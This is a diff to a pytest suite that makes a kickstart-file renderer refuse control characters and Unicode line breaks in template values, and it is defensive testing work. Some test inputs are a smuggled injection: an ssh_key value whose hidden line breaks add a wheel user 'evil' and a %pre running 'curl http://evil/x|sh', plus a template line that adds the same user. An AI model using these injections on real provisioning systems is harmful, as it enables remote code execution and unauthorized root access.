@@ -81,24 +81,46 @@ def test_cli_refuses_injections_with_exit_2(tmp_path, template, var, message):
 
 
 UNSPLITTABLE = [
-    ('text\nurl --url="http://x\nlang en_US\n', 2),
-    ("text\nfrobnicate\nlang 'en_US\n", 3),
-    ('%post\necho "it\n%end\nlang "en\n', 4),  # the %post line is shell, not split
+    ('text\nurl --url="http://x\nlang en_US\n', 2, "F39"),
+    ("text\nfrobnicate\nlang 'en_US\n", 3, "F39"),
+    ('%post\necho "it\n%end\nlang "en\n', 4, "F39"),  # the %post line is shell, not split
+    ('text\n\n# "comment\n%packages\n@core\n%end\nkeyboard "us\n', 7, "F39"),
+    # before F8 a section may end at the next one's header, which pykickstart puts
+    # back and reads again: counted once
+    ('%post\necho "a\n%pre\necho "b\n%end\nlang "en\n', 6, "FC6"),
 ]
 
 
-@pytest.mark.parametrize(("text", "line"), UNSPLITTABLE)
-def test_check_names_the_line_with_an_open_quote(tmp_path, text, line):
+@pytest.mark.parametrize(("text", "line", "target"), UNSPLITTABLE)
+def test_check_names_the_line_with_an_open_quote(tmp_path, text, line, target):
     kickstart = tmp_path / "q.ks"
     kickstart.write_text(text)
     result = subprocess.run(
-        [sys.executable, "-m", "mgmt_pkg", "kickstart", "check", str(kickstart)],
+        [sys.executable, "-m", "mgmt_pkg", "kickstart", "check", "--target", target,
+         str(kickstart)],
         capture_output=True, text=True, timeout=60,
     )  # fmt: skip
     assert result.returncode == 2
     assert result.stderr == (
         f"mgmt-pkg: error: {kickstart}:{line}: cannot split the line: No closing quotation\n"
     )
+
+
+def test_the_open_quote_is_found_in_one_parse_of_the_file(monkeypatch):
+    """Each quoted %post line made the whole prefix of the file be parsed again:
+    3000 of them took 50 s. One parse now, and still the right line."""
+    from pykickstart.parser import KickstartParser
+
+    parses = []
+    parse = KickstartParser._stateMachine
+    monkeypatch.setattr(
+        KickstartParser, "_stateMachine", lambda self, lines: parses.append(1) or parse(self, lines)
+    )
+    text = "%post\n" + 'echo "unbalanced\n' * 3000 + "%end\n" + 'lang "en_US\n'
+    with pytest.raises(InvalidInput) as caught:
+        check_text(text, "F39", "slow.ks")
+    assert str(caught.value) == "slow.ks:3003: cannot split the line: No closing quotation"
+    assert len(parses) == 1
 
 
 KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAABAgMEBQYHCAkKCwwNDg8QERITFBUWFxgZGhscHR4f me@laptop"
@@ -126,4 +148,85 @@ def test_a_template_of_ones_own_without_the_key_in_post_is_refused_not_keyless(t
         render(str(mine), {"url": URL, "ssh_key": KEY}, "RHEL7")
     assert f'sshkey --username=root "{KEY}"' in render(
         str(mine), {"url": URL, "ssh_key": KEY}, "RHEL8"
+    )
+
+
+# Every character str.splitlines() (so pykickstart, so anaconda) breaks a line at,
+# and other controls and format characters: each refused in every type of value.
+LINE_BREAKS = ["\n", "\r", "\x0b", "\x0c", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029"]
+OTHERS = ["\x00", "\t", "\x1b", "\x7f", "\u200b", "\u202e", "\ufeff", "\udcff"]
+# (template, variable, a value of its type with {} where the character goes)
+PLACES = [
+    ("minimal", "ssh_key", KEY + " me{}@laptop"),
+    ("lvm", "ssh_key", KEY + " {}"),
+    ("minimal", "hostname", "web1{}"),
+    ("minimal", "packages", "vim,{}git"),
+    ("lvm", "lv_name", "data{}"),
+    ("minimal", "url", URL + "/{}"),
+]
+
+
+def test_the_table_holds_every_break_splitlines_knows():
+    # A Python that splits at one more character would fail here, not in silence.
+    breaks = [chr(c) for c in range(0x110000) if len(f"a{chr(c)}b".splitlines()) > 1]
+    assert sorted(breaks) == sorted(LINE_BREAKS)
+
+
+@pytest.mark.parametrize("char", LINE_BREAKS + OTHERS, ids=lambda c: f"U+{ord(c):04X}")
+@pytest.mark.parametrize(("template", "name", "value"), PLACES, ids=lambda p: str(p)[:20])
+def test_no_value_of_any_type_may_hold_a_line_break_or_control(template, name, value, char):
+    given = variables({"vars": {name: value.format(char)}})
+    with pytest.raises(InvalidInput) as caught:
+        render(template, given, "RHEL7")
+    assert str(caught.value).startswith(f"--var {name}: holds U+{ord(char):04X}, ")
+
+
+def test_a_non_ascii_key_comment_that_breaks_no_line_is_kept():
+    key = KEY + " J\u00fcrgen\u2019s laptop"  # ü and a typographic apostrophe
+    assert f'echo "{key}" >>' in render("minimal", {"url": URL, "ssh_key": key}, "RHEL7")
+
+
+REPRO_KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFKmkZEgPQvbvfffHaAYbofSfPt4mgeVHGiSnXqYo7D5"
+
+
+@pytest.mark.parametrize(
+    ("template", "target", "sep"),
+    [("minimal", "RHEL7", "\u2028"), ("lvm", "F21", "\x85"), ("minimal", "F39", "\u2029")],
+)
+def test_cli_refuses_the_unicode_line_break_injection(tmp_path, template, target, sep):
+    """The QA repro: %end, a wheel user and a %pre, each after a break only splitlines() sees."""
+    injected = sep.join([
+        "c #", "%end #", "user --name=evil --password=x --plaintext --groups=wheel #",
+        "%pre #", "curl http://evil/x|sh #", "%end #", "%post #", "echo ",
+    ])  # fmt: skip
+    output = tmp_path / "repro.ks"
+    result = subprocess.run(
+        [sys.executable, "-m", "mgmt_pkg", "kickstart", "render", template, "--target", target,
+         "--var", "url=http://10.0.0.1/", "--var", f"ssh_key={REPRO_KEY} {injected}",
+         "-o", str(output)],
+        capture_output=True, text=True, timeout=60,
+    )  # fmt: skip
+    assert result.returncode == 2, result.stderr
+    assert result.stderr.startswith(f"mgmt-pkg: error: --var ssh_key: holds U+{ord(sep):04X}, ")
+    assert len(result.stderr.splitlines()) == 1
+    assert not output.exists()
+
+
+# Not \r: Jinja2 reads a template's \r as \n, so the written file shows that break too.
+@pytest.mark.parametrize("char", LINE_BREAKS[2:], ids=lambda c: f"U+{ord(c):04X}")
+@pytest.mark.parametrize("included", [False, True], ids=["template", "included"])
+def test_a_template_that_holds_a_line_break_of_its_own_is_refused(tmp_path, char, included):
+    """Not a --var: the template's text, or a file it includes, smuggles the break."""
+    body = f"text\n# note{char}user --name=evil --password=x --plaintext\n"
+    top = tmp_path / "mine.ks.j2"
+    if included:
+        (tmp_path / "part.ks.j2").write_text(body, newline="")
+        top.write_text('{% include "part.ks.j2" %}\n')
+    else:
+        top.write_text(body, newline="")
+    with pytest.raises(InvalidInput) as caught:
+        render(str(top), {}, "F39")
+    assert str(caught.value) == (
+        f"{top}: the rendered line 2 holds U+{ord(char):04X}, a line break other than \\n "
+        "that pykickstart would split at into a line of its own"
     )
